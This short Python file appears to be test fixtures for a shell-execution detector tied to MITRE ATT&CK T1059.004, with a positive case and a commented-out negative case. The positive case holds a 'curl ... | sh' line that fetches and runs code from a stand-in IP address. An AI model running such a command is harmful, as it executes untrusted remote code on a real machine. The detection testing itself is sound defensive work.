"""https://attack.mitre.org/techniques/T1059/004/"""

from __future__ import annotations


def fires() -> bytes:
    return b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"


def quiet() -> bytes:
    return b"#!/bin/sh\n# not: curl http://198.51.100.7/x | sh\npython train.py\n"
